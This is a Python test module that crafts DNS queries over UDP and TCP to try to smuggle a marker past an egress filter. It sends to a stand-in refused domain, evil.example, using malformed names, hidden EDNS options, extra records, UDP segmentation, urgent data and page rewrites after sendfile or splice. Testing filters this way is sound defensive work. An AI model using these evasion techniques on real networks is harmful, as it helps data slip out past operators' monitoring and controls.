# SPDX-License-Identifier: Apache-2.0
"""Ways out through questions to DNS servers."""

from __future__ import annotations

import mmap
import os
import socket
import struct
import time

from techniques.plan import Plan
from techniques.tcp import MSG_FASTOPEN
from techniques.udp import UDP_SEGMENT

A, OPT, IN, CHAOS = 1, 41, 1, 3
ZONE = "names.example.com"
"""Every name one label below it is permitted."""
REFUSED = "evil.example"
RECURSE = 0x0100
RETRANSMISSION_S = 0.6
"""By then TCP has sent once more what was not acknowledged."""
EDNS_LOCAL = 65001  # RFC 6891 section 9: local use


def pack(name: str | bytes) -> bytes:
    """Return a name in wire form."""
    labels = (name.encode() if isinstance(name, str) else name).split(b".")
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def header(number: int = 0x4157, flags: int = RECURSE, counts: tuple[int, ...] = (1,)) -> bytes:
    """Return a message's header; *counts*: questions, answers, authorities, additionals."""
    return struct.pack("!6H", number, flags, *counts, *(0 for _ in range(4 - len(counts))))


def question(name: str | bytes, kind: int = A, group: int = IN) -> bytes:
    """Return one entry of the question section."""
    return pack(name) + struct.pack("!2H", kind, group)


def edns(data: bytes, version: int = 0) -> bytes:
    """Return an OPT record with one option that holds *data*."""
    option = struct.pack("!2H", EDNS_LOCAL, len(data)) + data
    return b"\0" + struct.pack("!HHBBHH", OPT, 1232, 0, version, 0, len(option)) + option


def message(plan: Plan, shape: str, suffix: str = REFUSED, kind: int = A) -> bytes:
    """Return a message that carries the marker in the way that *shape* names."""
    marker, hub = plan.marker, f"hub.{ZONE}"
    asked = question(marker + b"." + suffix.encode(), kind)
    record = pack(hub) + struct.pack("!HHIH", 16, IN, 0, 1 + len(marker)) + b"\x10" + marker
    shapes = {
        "label": header() + asked,
        "mixed-case": header() + question(marker + b".eViL.eXaMpLe"),
        "chaos": header() + question(marker + b"." + ZONE.encode(), A, CHAOS),
        "zero-octet": header() + question(marker + b"\0." + suffix.encode()),
        "inner-dot": header() + bytes([20]) + marker + b".hub" + pack(ZONE) + b"\0\x01\0\x01",
        "two": header(counts=(2,)) + question(hub) + asked,
        "two-counted-as-one": header() + question(hub) + asked,
        "trailing": header() + question(hub) + marker,
        "compressed": header() + b"\x10" + marker + b"\xc0\x23" + b"\0\x01\0\x01" + pack(hub),
        "compressed-back": header(0x0000) + b"\x10" + marker + b"\xc0\x04\0\x01\0\x01",
        "answer-record": header(counts=(1, 1)) + question(hub) + record,
        "authority-record": header(counts=(1, 0, 1)) + question(hub) + record,
        "additional-record": header(counts=(1, 0, 0, 1)) + question(hub) + record,
        "update": header(flags=0x2800, counts=(1, 0, 1)) + question(hub, 6) + record,
        "response": header(flags=0x8180) + question(hub) + marker,
        "edns": header(counts=(1, 0, 0, 1)) + question(hub) + edns(marker),
        "edns-trailing": header(counts=(1, 0, 0, 1)) + question(hub) + edns(b"") + marker,
        "edns-version-1": header(counts=(1, 0, 0, 1)) + question(hub) + edns(marker, 1),
        "edns-twice": header(counts=(1, 0, 0, 2)) + question(hub) + edns(b"") + edns(marker),
        "no-question": header(counts=(0,)) + marker,
        "short": marker[:11] + plan.marker[11:],
    }
    return shapes[shape]


def send(
    plan: Plan,
    shape: str = "label",
    to: str = "resolver",
    suffix: str = REFUSED,
    kind: int = A,
    late: bool = False,
) -> None:
    """Send one datagram on a connected socket."""
    with plan.open(to, socket.SOCK_DGRAM) as sock:
        sock.connect(plan.place(to).address)
        if late:
            plan.pause()
        sock.send(message(plan, shape, suffix, kind))


def sendto(plan: Plan, shape: str = "label", to: str = "resolver") -> None:
    """Send one datagram on a socket that is not connected."""
    with plan.open(to, socket.SOCK_DGRAM) as sock:
        sock.sendto(message(plan, shape), plan.place(to).address)


def second(plan: Plan, to: str = "resolver") -> None:
    """Ask for what is permitted and hear the answer, then for what is not, on one socket."""
    with plan.open(to, socket.SOCK_DGRAM) as sock:
        sock.connect(plan.place(to).address)
        sock.send(header() + question(f"hub.{ZONE}"))
        sock.recv(4096)
        sock.send(message(plan, "label"))


def corked(plan: Plan, to: str = "resolver") -> None:
    """Put a datagram together from a permitted question and what is corked behind it."""
    with plan.open(to, socket.SOCK_DGRAM) as sock:
        sock.connect(plan.place(to).address)
        sock.send(header() + question(f"hub.{ZONE}"), socket.MSG_MORE)
        sock.send(plan.marker)


def segmented(plan: Plan, to: str = "resolver") -> None:
    """Let the kernel cut one send into questions of one size, the first of which is permitted."""
    innocent = header() + question("a" * 16 + f".{ZONE}")
    asked = header() + question(plan.marker + b".e.example.com")
    asked += b"\0" * (len(innocent) - len(asked))
    with plan.open(to, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, len(innocent))
        sock.connect(plan.place(to).address)
        sock.send(innocent + asked)


def spliced(plan: Plan, to: str = "resolver") -> None:
    """Lend the kernel a pipe's page as the datagram."""
    out, into = os.pipe()
    data = message(plan, "label")
    os.write(into, data)
    with plan.open(to, socket.SOCK_DGRAM) as sock:
        sock.connect(plan.place(to).address)
        os.splice(out, sock.fileno(), len(data))


def framed(data: bytes) -> bytes:
    """Put a message's length before it, as TCP wants it."""
    return struct.pack("!H", len(data)) + data


def over_tcp(
    plan: Plan,
    shape: str = "label",
    to: str = "resolver",
    piece: int = 4096,
    before: str = "",
    late: bool = False,
    suffix: str = REFUSED,
    kind: int = A,
) -> None:
    """Ask over TCP in pieces of *piece* octets and wait for an answer.

    *before*: a permitted question goes ``apart``, its answer being heard, or ``joined`` with it.
    """
    innocent = framed(header() + question(f"hub.{ZONE}"))
    data = framed(message(plan, shape, suffix, kind))
    with plan.open(to, socket.SOCK_STREAM) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.connect(plan.place(to).address)
        if late:
            plan.pause()
        # What is refused is not to be sent again after the wall is gone.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if before == "apart":
            sock.sendall(innocent)
            sock.recv(4096)
        if before == "joined":
            data = innocent + data
        for at in range(0, len(data), piece):
            sock.sendall(data[at : at + piece])
        sock.recv(4096)


def fast_open(plan: Plan, to: str = "resolver") -> None:
    """Ask in the SYN."""
    with plan.open(to, socket.SOCK_STREAM) as sock:
        sock.sendto(framed(message(plan, "label")), MSG_FASTOPEN, plan.place(to).address)
        sock.recv(4096)


def urgent(plan: Plan, to: str = "resolver") -> None:
    """Send one octet as urgent: who reads the stream never gets it, and frames what follows anew.

    Read whole, the stream is one permitted question whose EDNS option hides another. Read without
    its first octet, the message is over where the option's question begins.
    """
    whole_bytes, read_bytes = 0x0201, 0x0100
    start = header(0x0057, counts=(1, 0, 0, 1)) + question(f"hub.{ZONE}")
    # The reader takes the length's second octet and the id's first one, zero, as the length.
    filler = bytes(1 + read_bytes - len(start) - len(edns(b"")))
    hidden = filler + framed(message(plan, "label"))
    option = hidden + bytes(whole_bytes - len(start) - len(edns(hidden)))
    data = framed(start + edns(option))
    with plan.open(to, socket.SOCK_STREAM) as sock:
        sock.connect(plan.place(to).address)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.send(data[:1], socket.MSG_OOB)
        sock.sendall(data[1:])
        sock.recv(4096)


def unfinished(plan: Plan, to: str = "resolver") -> None:
    """Announce more than is sent: a message that never ends."""
    with plan.open(to, socket.SOCK_STREAM) as sock:
        sock.connect(plan.place(to).address)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.sendall(b"\xff\xff" + plan.marker)
        time.sleep(RETRANSMISSION_S)


def learn_and_connect(
    plan: Plan, label: str, to: str, kind: int = A, wait_s: float = 0.0, stream: bool = False
) -> None:
    """Ask for a permitted name, hear what is said of it, and connect to an address in it."""
    asked = header(int.from_bytes(os.urandom(2), "big")) + question(f"{label}.{ZONE}", kind)
    how = socket.SOCK_STREAM if stream else socket.SOCK_DGRAM
    with plan.open("resolver", how) as sock:
        sock.connect(plan.place("resolver").address)
        sock.send(framed(asked) if stream else asked)
        said = sock.recv(4096)
    place = plan.place(to)
    if socket.inet_pton(place.family, place.host) not in said:
        raise AssertionError(f"{place.host}: expected in the answer, got {said!r}")
    time.sleep(wait_s)
    with plan.open(to, socket.SOCK_STREAM) as sock:
        sock.connect(place.address)
        sock.sendall(plan.marker)


def rewritten(plan: Plan, how: str, to: str = "resolver", attempts: int = 20) -> None:
    """Lend the kernel a page that holds a permitted question, and write another one into it.

    *how*: the page is lent by ``sendfile`` or by ``splice``.
    """
    refused = framed(message(plan, "label", "evil.example.com"))
    innocent = framed(header() + question(f"innocent-name-15.{ZONE}"[1:]))
    for _ in range(attempts):
        descriptor = os.memfd_create("question")
        os.write(descriptor, innocent)
        with (
            plan.open(to, socket.SOCK_STREAM) as sock,
            mmap.mmap(descriptor, len(refused)) as page,
        ):
            sock.connect(plan.place(to).address)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            lend(descriptor, sock, len(innocent), how)
            page[:] = refused
            sock.recv(4096)
        os.close(descriptor)


def lend(descriptor: int, sock: socket.socket, size: int, how: str) -> None:
    """Lend the kernel the pages of *descriptor* for *sock*, by ``sendfile`` or by ``splice``."""
    if how == "sendfile":
        os.sendfile(sock.fileno(), descriptor, 0, size)
        return
    out, into = os.pipe()
    os.splice(descriptor, into, size, offset_src=0)
    os.splice(out, sock.fileno(), size)
    os.close(out)
    os.close(into)
